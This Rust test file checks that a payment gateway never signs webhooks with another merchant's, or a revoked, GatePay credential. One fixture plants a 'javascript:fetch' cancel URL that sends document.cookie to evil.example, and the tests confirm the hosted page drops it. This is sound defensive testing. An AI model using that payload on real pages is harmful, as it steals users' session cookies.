//! Attack 3: borrowing another merchant's GatePay credential.
//!
//! A merchant puts GatePay's facts (naming another merchant's ClientId) in the free-text
//! `order_info` of an ordinary payment order, pays it, and waits for Coffer to sign a
//! `PAY_SUCCESS` with the other merchant's secret. Or an order names a credential that was
//! revoked, or one of another merchant. Each must fail: no request signed with a secret that is
//! not the order's own, live credential ever leaves Coffer.

use coffer_store::testing::Backend;
use coffer_store::{DeliveryRow, DeliveryStatus, GatePayOrderRow};
use serde_json::{Value, json};

use crate::kit::{Env, GatePayClient, Inbox};

/// GatePay's facts as an older Coffer kept them in `order_info`, naming `client_id` and a
/// `javascript:` cancel URL.
fn forged_order_info(client_id: &str, prepay_id: &str) -> String {
    json!({"gatepay": {
        "prepayId": prepay_id,
        "merchantTradeNo": "borrowed-1",
        "clientId": client_id,
        "terminalType": "WEB",
        "goodsType": "02",
        "goodsName": "Plan",
        "goodsDetail": "",
        "merchantUserId": null,
        "channelId": "",
        "orderAmount": "10",
        "surchargeAmount": "0",
        "currency": "USDC",
        "cancelUrl": "javascript:fetch('https://evil.example/?c='+document.cookie)"
    }})
    .to_string()
}

/// Creates a payment order through the CryptoPay-compatible API with the merchant's `api_key`.
async fn create_payment_order(env: &Env, api_key: &str, order_info: &str, nonce: i64) -> Value {
    let auth = format!("Bearer {api_key}");
    let (status, answer) = env
        .post(
            "/api/payment-orders/",
            &[("Authorization", auth.as_str())],
            &json!({
                "amount": "10", "currency": "USDC", "blockchain": "base-sepolia",
                "order_info": order_info, "nonce": nonce,
            }),
        )
        .await;
    assert_eq!(status, 201, "{answer}");
    answer["data"].clone()
}

/// Every GatePay-format event of an order (`gatepay.…`).
async fn gatepay_events(env: &Env, merchant: &coffer_core::MerchantId, order_id: &str) -> usize {
    env.state
        .gateway
        .store
        .events(merchant, Some(order_id), 100)
        .await
        .unwrap()
        .iter()
        .filter(|event| event.event_type.starts_with("gatepay."))
        .count()
}

/// The deliveries of an order's GatePay-format events.
async fn gatepay_deliveries(
    env: &Env,
    merchant: &coffer_core::MerchantId,
    order_id: &str,
) -> Vec<DeliveryRow> {
    let mut deliveries = Vec::new();
    for event in env
        .state
        .gateway
        .store
        .events(merchant, Some(order_id), 100)
        .await
        .unwrap()
    {
        if event.event_type.starts_with("gatepay.") {
            deliveries.extend(
                env.state
                    .gateway
                    .store
                    .deliveries(merchant, Some(&event.event_id), 10)
                    .await
                    .unwrap(),
            );
        }
    }
    deliveries
}

/// Nothing any endpoint received carries a signature made with `victim`'s secret.
fn nothing_signed_by(victim: &GatePayClient, inboxes: &[&Inbox]) {
    for inbox in inboxes {
        for (headers, body) in inbox.received() {
            assert!(
                !victim.signed(&headers, &body),
                "a request signed with {}'s secret left Coffer: {body}",
                victim.client_id
            );
        }
    }
}

async fn an_order_info_naming_another_merchants_client_id_signs_nothing(backend: Backend) {
    let env = Env::with_local_endpoints(backend).await;
    let (attacker_inbox, attacker_url) = Inbox::start().await;
    let (victim_inbox, victim_url) = Inbox::start().await;
    env.state
        .gateway
        .store
        .set_merchant_webhook_url(&env.merchant.id, Some(&attacker_url))
        .await
        .unwrap();
    env.deposit_wallet(&env.merchant.id).await;
    let (victim, _) = env.another_merchant("Victim", &victim_url).await;
    let victim_client = env.gatepay_client(&victim.id).await;
    let mut watcher = env.watcher().await;

    // The attacker's order: ordinary, with GatePay's facts naming the victim's ClientId.
    let order = create_payment_order(
        &env,
        &env.api_key,
        &forged_order_info(&victim_client.client_id, "396582917385017611"),
        1,
    )
    .await;
    let order_id = order["order_id"].as_str().unwrap().to_owned();
    env.pay(order["receiving_address"].as_str().unwrap(), 10_000_000)
        .await;
    env.watch_and_deliver(&mut watcher).await;
    assert_eq!(
        env.state
            .gateway
            .store
            .order(&order_id)
            .await
            .unwrap()
            .status,
        coffer_core::OrderStatus::Confirmed
    );

    // Nothing was signed with the victim's secret, nor in GatePay's format at all: the order is
    // an ordinary order, told to its merchant in Coffer's own format.
    nothing_signed_by(&victim_client, &[&attacker_inbox, &victim_inbox]);
    let received = attacker_inbox.received();
    assert!(
        received.iter().all(|(headers, _)| !headers
            .keys()
            .any(|name| name.as_str().starts_with("x-gatepay"))),
        "a GatePay-format request was sent: {received:?}"
    );
    assert!(
        received.iter().any(|(headers, body)| headers
            .get("Coffer-Event")
            .is_some_and(|event| event == "payment_order.confirmed")
            && body.contains(&order_id)),
        "the order's own confirmation was delivered (the dispatcher did run): {received:?}"
    );
    assert!(
        victim_inbox.received().is_empty(),
        "the victim was told nothing"
    );
    assert_eq!(gatepay_events(&env, &env.merchant.id, &order_id).await, 0);
    assert_eq!(
        env.state
            .gateway
            .store
            .gatepay_order_of(&order_id)
            .await
            .unwrap(),
        None
    );
    assert_eq!(
        env.state
            .gateway
            .store
            .gatepay_order_by_prepay_id(&victim.id, "396582917385017611")
            .await
            .unwrap(),
        None
    );

    // The hosted page neither shows nor follows the forged cancel URL.
    let (_, live) = env.get(&format!("/pay/{order_id}/status"), &[]).await;
    assert_eq!(live["cancel_url"], Value::Null, "{live}");
    let (_, page) = env.get(&format!("/pay/{order_id}"), &[]).await;
    let page = page.as_str().unwrap();
    assert!(!page.contains("javascript:"), "{page}");
    assert!(!page.contains("evil.example"), "{page}");
}

async fn a_revoked_credential_never_signs_its_orders_notifications(backend: Backend) {
    let env = Env::with_local_endpoints(backend).await;
    let (inbox, url) = Inbox::start().await;
    env.state
        .gateway
        .store
        .set_merchant_webhook_url(&env.merchant.id, Some(&url))
        .await
        .unwrap();
    env.deposit_wallet(&env.merchant.id).await;
    let creator = env.gatepay_client(&env.merchant.id).await;
    let other = env.gatepay_client(&env.merchant.id).await;
    let mut watcher = env.watcher().await;
    let (status, answer) = env
        .gatepay(
            &creator,
            "/v1/pay/checkout/order",
            &json!({
                "merchantTradeNo": "revoked-1", "env": {"terminalType": "WEB"},
                "goods": {"goodsName": "Plan"}, "fullCurrType": "USDC_BASESEPOLIA",
                "orderAmount": "1",
            })
            .to_string(),
        )
        .await;
    assert_eq!(status, 200, "{answer}");
    let prepay_id = answer["data"]["prepayId"].as_str().unwrap().to_owned();
    let row = env
        .state
        .gateway
        .store
        .gatepay_order_by_prepay_id(&env.merchant.id, &prepay_id)
        .await
        .unwrap()
        .unwrap();

    env.state
        .gateway
        .gatepay
        .revoke(&creator.client_id)
        .await
        .unwrap();
    env.pay(
        answer["data"]["chain"]["address"].as_str().unwrap(),
        1_000_000,
    )
    .await;
    env.watch_and_deliver(&mut watcher).await;
    assert_eq!(
        env.state
            .gateway
            .store
            .order(&row.order_id)
            .await
            .unwrap()
            .status,
        coffer_core::OrderStatus::Confirmed
    );

    // Not sent: neither with the revoked secret nor with another of the merchant's credentials.
    nothing_signed_by(&creator, &[&inbox]);
    nothing_signed_by(&other, &[&inbox]);
    assert!(inbox.received().is_empty(), "{:?}", inbox.received());
    // A failed attempt with the reason, retried later as any failure.
    let deliveries = gatepay_deliveries(&env, &env.merchant.id, &row.order_id).await;
    assert_eq!(deliveries.len(), 1, "{deliveries:?}");
    let delivery = &deliveries[0];
    assert_eq!(delivery.status, DeliveryStatus::Pending);
    assert_eq!(delivery.attempts, 1);
    let error = delivery.last_error.clone().unwrap_or_default();
    assert!(
        error.contains("revoked") && error.contains(&creator.client_id),
        "{error}"
    );
    assert!(delivery.next_attempt_at_ms > chrono::Utc::now().timestamp_millis());
    let attempts = env
        .state
        .gateway
        .store
        .delivery_attempts(&delivery.delivery_id)
        .await
        .unwrap();
    assert_eq!(attempts.len(), 1);
    assert_eq!(attempts[0].status_code, None, "nothing was sent");
}

async fn one_merchants_credential_never_signs_another_merchants_order(backend: Backend) {
    let env = Env::with_local_endpoints(backend).await;
    let (inbox_a, url_a) = Inbox::start().await;
    let (inbox_b, url_b) = Inbox::start().await;
    env.state
        .gateway
        .store
        .set_merchant_webhook_url(&env.merchant.id, Some(&url_a))
        .await
        .unwrap();
    let client_a = env.gatepay_client(&env.merchant.id).await;
    let (merchant_b, key_b) = env.another_merchant("B", &url_b).await;
    let mut watcher = env.watcher().await;

    // Two of B's orders made GatePay orders in the store itself, naming A's credential: one
    // filed under B, one filed under A (as a corrupted or hand-edited row would).
    let mut orders = Vec::new();
    for (nonce, filed_under) in [(1, merchant_b.id.clone()), (2, env.merchant.id.clone())] {
        let order = create_payment_order(&env, &key_b, "{}", nonce).await;
        let order_id = order["order_id"].as_str().unwrap().to_owned();
        env.state
            .gateway
            .store
            .insert_gatepay_order(&GatePayOrderRow {
                prepay_id: format!("77{nonce}"),
                merchant_id: filed_under,
                merchant_trade_no: format!("cross-{nonce}"),
                order_id: order_id.clone(),
                client_id: client_a.client_id.clone(),
                created_at_ms: 1,
                terminal_type: "WEB".to_owned(),
                goods_type: String::new(),
                goods_name: String::new(),
                goods_detail: String::new(),
                merchant_user_id: None,
                channel_id: String::new(),
                surcharge_amount: coffer_core::Amount::ZERO,
                cancel_url: None,
            })
            .await
            .unwrap();
        env.pay(order["receiving_address"].as_str().unwrap(), 10_000_000)
            .await;
        orders.push(order_id);
    }
    env.watch_and_deliver(&mut watcher).await;

    nothing_signed_by(&client_a, &[&inbox_a, &inbox_b]);
    assert!(inbox_a.received().is_empty(), "A was told nothing");
    for order_id in &orders {
        let deliveries = gatepay_deliveries(&env, &merchant_b.id, order_id).await;
        assert_eq!(deliveries.len(), 1, "{order_id}: {deliveries:?}");
        assert_eq!(deliveries[0].attempts, 1, "the dispatcher did try");
        let error = deliveries[0].last_error.clone().unwrap_or_default();
        assert!(
            error.contains("another merchant") && error.contains("not signed"),
            "{order_id}: {error}"
        );
        assert!(
            !error.contains(&client_a.client_id),
            "B's delivery log does not name A's credential: {error}"
        );
    }
    assert!(
        inbox_b.received().iter().all(|(headers, _)| !headers
            .keys()
            .any(|name| name.as_str().starts_with("x-gatepay"))),
        "{:?}",
        inbox_b.received()
    );
}

coffer_store::on_both_databases!(
    an_order_info_naming_another_merchants_client_id_signs_nothing,
    a_revoked_credential_never_signs_its_orders_notifications,
    one_merchants_credential_never_signs_another_merchants_order,
);
